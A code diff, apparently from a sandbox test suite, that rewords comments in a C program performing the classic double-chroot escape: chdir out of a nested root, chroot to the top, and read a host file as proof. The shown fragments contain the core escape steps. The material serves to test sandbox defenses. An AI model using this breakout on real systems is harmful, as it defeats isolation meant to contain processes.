@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: MIT */
-/* Leaves its root by chroot: into a second root inside, with a working directory outside of it.
- * Reading a file of the host, the argument, shows that it has left. Stopped by: seccomp, filesystem
- * (the root is that of a mount namespace, there is no way up). */
+/* Escapes from its root by chroot: enters a second root inside, and keeps a working directory
+ * outside of that. Proves it by reading a file of the host. Argument: the file. Stopped by:
+ * seccomp, filesystem (the root is that of a mount namespace, so ".." leads nowhere). */
 #include "attack.h"
 
 int main(int argc, char **argv)
@@ -19,7 +19,7 @@ int main(int argc, char **argv)
         }
     }
     for (int i = 0; i < 100; i++)
-        (void)!chdir(".."); /* stays there at the top */
+        (void)!chdir(".."); /* stays at the top once there */
     if (chroot(".") < 0)
         barred("the second chroot");
     if (read_file(secret, text, sizeof(text)) > 0)
